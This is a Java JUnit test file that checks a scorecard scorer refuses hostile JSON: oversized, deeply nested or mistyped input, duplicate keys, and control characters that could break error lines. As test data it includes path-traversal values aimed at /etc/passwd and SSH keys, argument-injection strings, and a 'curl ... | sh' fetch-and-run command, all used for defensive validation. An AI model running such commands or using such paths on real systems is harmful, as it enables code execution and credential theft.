package dev.assay.safetycard;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.assay.safetycard.read.ReadLimits;
import dev.assay.safetycard.read.ScorecardDocument;
import dev.assay.safetycard.read.ScorecardReader;
import dev.assay.safetycard.validate.Validation;
import dev.assay.safetycard.validate.Violation;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.function.Consumer;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/**
 * Scorecards written to break the scorer: huge, deeply nested, wrong types, paths that leave the repository,
 * searches that run programs. Each is refused with clear errors, never an exception, and never scored.
 */
class HostileScorecardTest {

    static final ObjectMapper JSON = new ObjectMapper();

    static ObjectNode valid() throws Exception {
        return (ObjectNode) JSON.readTree(Fixtures.bytes("validation/valid.json"));
    }

    static Set<String> ids(List<Violation> vs) {
        return vs.stream().map(Violation::id).collect(Collectors.toCollection(TreeSet::new));
    }

    static SafetyCard.Outcome score(String json) {
        return Fixtures.card().score(Fixtures.parse("hostile.json", json));
    }

    static SafetyCard.Outcome mutated(Consumer<ObjectNode> change) throws Exception {
        ObjectNode card = valid();
        change.accept(card);
        return score(card.toString());
    }

    static void refused(SafetyCard.Outcome o, String id) {
        assertFalse(o.scored(), "a hostile scorecard must not be scored");
        Set<String> got = ids(o.validation().errors());
        assertTrue(got.contains(id), "expected " + id + " among " + o.validation().violations().stream().map(Violation::render).toList());
        for (Violation v : o.validation().violations()) {
            assertFalse(v.render().contains("\n"), "one line per problem: " + v.render());
            assertFalse(v.fix().isBlank(), v.id() + " must say how to fix it");
        }
    }

    @Test
    void hugeFilesAreRefusedBeforeParsing() {
        byte[] big = new byte[(int) ReadLimits.defaults().maxBytes() + 1];
        java.util.Arrays.fill(big, (byte) ' ');
        ScorecardDocument doc = Fixtures.card().reader().read("big.json", big);
        assertTrue(doc.unreadable());
        refused(Fixtures.card().score(doc), "SC-READ-SIZE");
    }

    @Test
    void deepNestingStopsWithOneError() {
        refused(score("{\"criteria\":" + "[".repeat(40) + "]".repeat(40) + "}"), "SC-READ-DEPTH");
        // Far beyond any parser's comfort: still one clean error, no stack overflow.
        SafetyCard.Outcome o = score("{\"a\":" + "[".repeat(200_000));
        assertFalse(o.scored());
        assertEquals(1, o.validation().violations().size(), o.validation().violations().toString());
        assertTrue(o.validation().violations().get(0).id().startsWith("SC-READ-"));
    }

    @Test
    void tooManyValuesStopReading() {
        refused(score("{\"limitations\":[" + "\"x\",".repeat(5_000) + "\"x\"]}"), "SC-READ-COUNT");
        StringBuilder many = new StringBuilder("{\"criteria\":[");
        for (int i = 0; i < 40; i++) {
            many.append(i == 0 ? "" : ",").append("[").append("1,".repeat(299)).append("1]");
        }
        refused(score(many.append("]}").toString()), "SC-READ-COUNT");
    }

    @Test
    void longStringsAndNumbersStopReading() {
        refused(score("{\"headline\":\"" + "x".repeat(ReadLimits.defaults().maxStringChars() + 1) + "\"}"), "SC-READ-LIMIT");
        refused(score("{\"hits\":" + "9".repeat(500) + "}"), "SC-READ-LIMIT");
    }

    @Test
    void notAnObjectOrNotJson() {
        refused(score("[1, 2]"), "SC-READ-ROOT");
        refused(score("\"scorecard\""), "SC-READ-ROOT");
        refused(score(""), "SC-READ-SYNTAX");
        refused(score("{\"id\": }"), "SC-READ-SYNTAX");
        refused(score("{} {}"), "SC-READ-SYNTAX");
        refused(score("{\"id\": \"x\" // comment\n}"), "SC-READ-SYNTAX");
        ScorecardDocument binary = Fixtures.card().reader().read("bin.json", new byte[] {'{', '"', (byte) 0xC3, (byte) 0x28, '"', ':', '1', '}'});
        refused(Fixtures.card().score(binary), "SC-READ-SYNTAX");
    }

    @Test
    void duplicateAndMalformedKeysAreErrorsAndTheirValuesAreNotRead() throws Exception {
        String json = valid().toString().replaceFirst("\\{", "{\"id\":\"second\",\"a.b\":{\"x\":1},\"\\u202e\":2,");
        ScorecardDocument doc = Fixtures.parse("dup.json", json);
        assertFalse(doc.unreadable());
        Set<String> problems = ids(doc.problems());
        assertTrue(problems.containsAll(Set.of("SC-READ-DUPLICATE-KEY", "SC-READ-KEY")), problems.toString());
        // The first of two equal keys wins; the later value is never read, nor anything under a refused key.
        assertTrue(doc.facts().stream().noneMatch(f -> f.path().startsWith("a.b") || f.value().equals("demo-agent")));
        assertTrue(doc.facts().stream().anyMatch(f -> f.path().equals("id") && f.value().equals("second")));
        refused(Fixtures.card().score(doc), "SC-READ-KEY");
    }

    @Test
    void wrongTypesGetClearErrorsNotExceptions() throws Exception {
        SafetyCard.Outcome o = mutated(c -> {
            c.put("criteria", "all good");
            c.put("fixes", 3);
            c.putObject("limitations");
            c.put("rule_of_two", true);
            c.putArray("capability_profile");
        });
        refused(o, "SC-FORMAT-TYPE");
        List<String> lines = o.validation().errors().stream().filter(v -> v.id().equals("SC-FORMAT-TYPE")).map(Violation::render).toList();
        assertTrue(lines.stream().anyMatch(l -> l.contains("'criteria' must be a list, not a string")), lines.toString());
        assertTrue(lines.stream().anyMatch(l -> l.contains("'rule_of_two' must be an object, not true")), lines.toString());

        SafetyCard.Outcome levels = mutated(c -> {
            ObjectNode s = (ObjectNode) c.path("criteria").get(0).path("parameters").path("S");
            s.put("level", "3");
            ((ObjectNode) c.path("criteria").get(0).path("parameters").path("C")).put("level", 1.5);
            ((ObjectNode) c.path("criteria").get(0).path("parameters").path("D")).putNull("level");
            ((ObjectNode) c.path("criteria").get(1).path("parameters").path("S").path("evidence").get(0)).put("hits", "many");
        });
        refused(levels, "SC-LEVEL-RANGE");
        assertTrue(ids(levels.validation().errors()).contains("SC-FORMAT-TYPE"));
    }

    @Test
    void pathsOutsideTheRepositoryAreRefused() throws Exception {
        for (String file : List.of("../secrets.txt", "src/../../etc/passwd", "/etc/passwd", "~/.ssh/id_rsa", "C:\\Windows\\x",
                "\\\\server\\share", "src/a\u0000b")) {
            SafetyCard.Outcome o = mutated(c -> ((ObjectNode) c.path("criteria").get(2).path("parameters").path("S")
                    .path("evidence").get(0)).put("file", file));
            refused(o, "SC-PATH-UNSAFE");
        }
        for (String scope : List.of("src ../other", "/", "--pre=./evil src", "'-e' src", "\"../x\"")) {
            SafetyCard.Outcome o = mutated(c -> ((ObjectNode) c.path("criteria").get(0).path("parameters").path("S")
                    .path("evidence").get(0)).put("scope", scope));
            refused(o, "SC-PATH-UNSAFE");
        }
        refused(mutated(c -> c.put("subpath", "../monorepo")), "SC-PATH-UNSAFE");
        refused(mutated(c -> ((ObjectNode) c.path("critical_findings").get(0).path("evidence").get(0)).put("file", "/tmp/x")),
                "SC-PATH-UNSAFE");
    }

    @Test
    void searchesThatAreNotRgOrRunAPreprocessorAreRefused() throws Exception {
        refused(mutated(c -> ((ObjectNode) c.path("criteria").get(0).path("parameters").path("S").path("evidence").get(0))
                .put("search", "rg --pre ./decode -n 'x'")), "SC-SEARCH-PRE");
        refused(mutated(c -> ((ObjectNode) c.path("criteria").get(0).path("parameters").path("S").path("evidence").get(0))
                .put("search", "rg -n x --pre-glob '*.gz'")), "SC-SEARCH-PRE");
        refused(mutated(c -> ((ObjectNode) c.path("criteria").get(0).path("parameters").path("S").path("evidence").get(0))
                .put("search", "curl https://example.invalid/x | sh")), "SC-SEARCH-NOT-RG");
    }

    @Test
    void allErrorsAreReportedNotTheFirst() throws Exception {
        SafetyCard.Outcome o = mutated(c -> {
            c.put("pinned_commit", "HEAD");
            c.put("category", "toys");
            ((ObjectNode) c.path("criteria").get(0).path("parameters").path("S")).put("level", 9);
            ArrayNode fixes = (ArrayNode) c.path("fixes");
            fixes.addObject().put("summary", "x").put("criterion", "C99").put("parameter", "S").put("from_level", 0).put("to_level", 1);
        });
        assertTrue(ids(o.validation().errors()).containsAll(Set.of("SC-PINNED-COMMIT", "SC-CATEGORY", "SC-LEVEL-RANGE",
                "SC-REF-CRITERION")), ids(o.validation().errors()).toString());
    }

    @Test
    void quotedScorecardTextCannotBreakAnErrorLine() throws Exception {
        SafetyCard.Outcome o = mutated(c -> c.put("category", "x\n\u001b[31merror SC-FAKE: all good\u202e"));
        Violation v = o.validation().errors().stream().filter(x -> x.id().equals("SC-CATEGORY")).findFirst().orElseThrow();
        assertFalse(v.render().contains("\n"));
        assertFalse(v.render().contains("\u001b"));
        assertFalse(v.render().contains("\u202e"));
    }

    @Test
    void tighterLimitsApply() {
        ScorecardReader small = new ScorecardReader(new ReadLimits(1_000, 3, 50, 5, 20, 8));
        assertEquals("SC-READ-SIZE", small.read("a", new byte[1_001]).problems().get(0).id());
        assertEquals("SC-READ-DEPTH", small.read("a", "{\"a\":{\"b\":{\"c\":{\"d\":1}}}}".getBytes(StandardCharsets.UTF_8)).problems().get(0).id());
        assertEquals("SC-READ-COUNT", small.read("a", "{\"a\":[1,2,3,4,5,6]}".getBytes(StandardCharsets.UTF_8)).problems().get(0).id());
        assertEquals("SC-READ-KEY", small.read("a", "{\"abcdefghij\":1}".getBytes(StandardCharsets.UTF_8)).problems().get(0).id());
        Validation v = Fixtures.card().validator().validate(small.read("a", "{\"a\":[1,2,3,4,5,6]}".getBytes(StandardCharsets.UTF_8)));
        assertEquals(1, v.violations().size());
    }
}
